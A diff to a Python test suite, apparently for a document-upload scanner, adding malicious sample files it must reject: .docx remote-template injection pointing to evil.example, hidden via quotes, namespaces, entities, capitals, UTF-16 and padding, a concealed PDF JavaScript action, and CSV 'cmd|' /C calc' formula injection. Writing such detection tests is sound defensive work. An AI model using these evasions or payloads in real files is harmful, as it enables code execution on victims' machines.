@@ -38,6 +38,15 @@ def relations(kind, target):
     )
 
 
+def prefixed(relations):
+    """The same relations, with their names in a namespace."""
+    return (
+        relations.replace("<Relationships", '<r:Relationships xmlns:r="urn:r"')
+        .replace("</Relationships", "</r:Relationships")
+        .replace("<Relationship ", "<r:Relationship ")
+    )
+
+
 def pdf(objects, packed=b""):
     """A PDF with these objects written out, and others in a packed stream of objects."""
     body = b"%PDF-1.7\n1 0 obj<<" + objects + b">>endobj\n"
@@ -87,7 +96,7 @@ GOOD = {
     "PLAN.PDF": (PDF, "pdf"),
     "hyperlinks and packed objects.pdf": (pdf(b"/A<</S/URI/URI(https://ok.example)>>", b"/Type/Page"), "pdf"),
     "letter.docx": (office(), "docx"),
-    "links.docx": (office(word___rels__document_xml_rels=relations("hyperlink", "https://ok.example")), "docx"),
+    "links.docx": (office(**{"word/_rels/document.xml.rels": relations("hyperlink", "https://ok.example")}), "docx"),
     "own template.docx": (
         archive(
             {
@@ -203,6 +212,98 @@ BAD = {
         ),
         ACTS,
     ),
+    "template in single quotes": (
+        "a.docx",
+        archive(
+            {
+                "[Content_Types].xml": TYPES,
+                "word/document.xml": "",
+                "word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/a.dotm").replace(
+                    '"', "'"
+                ),
+            }
+        ),
+        ACTS,
+    ),
+    "template under a prefix": (
+        "a.docx",
+        archive(
+            {
+                "[Content_Types].xml": TYPES,
+                "word/document.xml": "",
+                "word/_rels/settings.xml.rels": prefixed(relations("attachedTemplate", "https://evil.example/a.dotm")),
+            }
+        ),
+        ACTS,
+    ),
+    "template in numbers": (
+        "a.docx",
+        archive(
+            {
+                "[Content_Types].xml": TYPES,
+                "word/document.xml": "",
+                "word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/a.dotm").replace(
+                    "https", "&#104;ttps"
+                ),
+            }
+        ),
+        ACTS,
+    ),
+    "template in capitals": (
+        "a.docx",
+        archive(
+            {
+                "[Content_Types].xml": TYPES,
+                "word/document.xml": "",
+                "word/_rels/settings.xml.RELS": relations("attachedTemplate", "https://evil.example/a.dotm"),
+            }
+        ),
+        ACTS,
+    ),
+    "template in another encoding": (
+        "a.docx",
+        archive(
+            {
+                "[Content_Types].xml": TYPES,
+                "word/document.xml": "",
+                "word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/a.dotm").encode(
+                    "utf-16"
+                ),
+            }
+        ),
+        BROKEN,
+    ),
+    "list with entities": (
+        "a.docx",
+        archive(
+            {
+                "[Content_Types].xml": TYPES,
+                "word/document.xml": "",
+                "word/_rels/settings.xml.rels": "<!DOCTYPE a>"
+                + relations("attachedTemplate", "https://evil.example/a.dotm"),
+            }
+        ),
+        BROKEN,
+    ),
+    "list that hides its end": (
+        "a.docx",
+        archive(
+            {
+                "[Content_Types].xml": TYPES,
+                "word/document.xml": "",
+                "word/_rels/settings.xml.rels": " " * 2**22
+                + relations("attachedTemplate", "https://evil.example/a.dotm"),
+            }
+        ),
+        BROKEN,
+    ),
+    "action in what a comment calls a stream": (
+        "a.pdf",
+        PDF.replace(b"trailer", b"%stream\n5 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n%endstream\ntrailer"),
+        ACTS,
+    ),
+    "formula after an old line break": ("a.csv", b"name\r=cmd|' /C calc'!A0", "It holds formulas"),
+    "formula of several terms": ("a.csv", b"name\n-2+3+cmd|' /C calc'!A0", "It holds formulas"),
     "template from a share": (
         "a.docx",
         archive(
